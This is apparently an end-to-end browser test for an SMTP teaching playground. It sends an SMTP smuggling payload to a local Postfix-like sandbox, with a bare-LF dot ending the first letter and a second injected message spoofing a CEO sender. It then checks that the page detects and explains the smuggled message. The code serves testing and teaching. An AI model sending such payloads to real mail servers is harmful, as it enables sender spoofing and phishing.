/**
 * SMTP smuggling on the Postfix-like sandbox, watched in Chromium: a playground of this
 * file's own, started as `npm start -- --personality postfix` would be, takes a letter
 * from a raw TCP socket with `<LF>.<LF>` inside, as Debian 12's Postfix 3.7 does. The
 * page, which watches without knowing the server's rule, must see from the replies that
 * the letter ended early, say so, and show the second message in the mailbox.
 */
import net from 'node:net';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULTS } from '../../relay/src/config.js';
import { type Playground, startPlayground } from '../../relay/src/playground.js';
import { ARTIFACTS, expectAccessible, hasChromium, useBrowser } from './browser.js';

describe.skipIf(!hasChromium)('SMTP smuggling on the Postfix-like sandbox, watched', () => {
  const context = useBrowser();
  let playground: Playground;
  beforeAll(async () => {
    const webRoot = fileURLToPath(new URL('../dist', import.meta.url));
    playground = await startPlayground({ ...DEFAULTS, smtpPort: 0, pop3Port: 0, httpPort: 0, personality: 'postfix' }, webRoot, { log: () => {} });
  });
  afterAll(async () => {
    await playground?.close();
  });

  it('shows the letter ending at the bare-LF dot and the smuggled message arriving', async () => {
    const page = await context().newPage();
    await page.goto(`http://127.0.0.1:${playground.httpPort}/`);
    await page.getByRole('combobox', { name: 'Server' }).selectOption({ label: `Watch port ${playground.smtpPort}` });
    const status = page.getByRole('region', { name: 'Connection' }).getByRole('status');
    await expect.poll(() => status.textContent()).toContain('Waiting for a session to open.');

    // The attacker's client: everything in one write, as a sending server would pass it on.
    const socket = net.connect(playground.smtpPort, '127.0.0.1');
    let heard = '';
    socket.setEncoding('utf8');
    socket.on('data', (d: string) => {
      heard += d;
    });
    await expect.poll(() => heard).toMatch(/^220 /);
    socket.write(
      'EHLO attacker.thm\r\nMAIL FROM:<user@client.thm>\r\nRCPT TO:<strategos@server.thm>\r\nDATA\r\n' +
        'Subject: first\r\n\r\nfirst letter\n.\nMAIL FROM:<ceo@victim.thm>\r\nRCPT TO:<strategos@server.thm>\r\nDATA\r\n' +
        'Subject: smuggled\r\n\r\nsecond letter\r\n.\r\nQUIT\r\n',
    );
    const ended = new Promise<void>((resolve) => socket.on('close', () => resolve()));
    await ended;
    // Postfix 3.7's answer: two messages queued.
    expect(heard.match(/^250 2\.0\.0 Ok: queued as /gm)).toHaveLength(2);

    const transcript = page.getByRole('listbox', { name: 'Transcript' });
    await expect.poll(() => transcript.getByRole('option', { name: /^Server: 354 / }).count()).toBe(2);
    // The replies to what was sent as letter text are explained as such.
    await transcript
      .getByRole('option', { name: /^Server: 354 / })
      .last()
      .click();
    await expect.poll(() => page.getByRole('region', { name: 'Line explanation' }).textContent()).toMatch(/sent as text inside the letter/);
    await page.screenshot({ path: `${ARTIFACTS}smuggling-watched.png` });
    await expectAccessible(page);

    await page.getByRole('link', { name: 'Mailbox' }).click();
    const messages = page.getByRole('list', { name: 'Messages' });
    await expect.poll(() => messages.textContent()).toContain('smuggled');
    await expect.poll(() => messages.textContent()).toContain('first');
    await page.screenshot({ path: `${ARTIFACTS}smuggling-mailbox.png` });
    await page.close();
  });
});
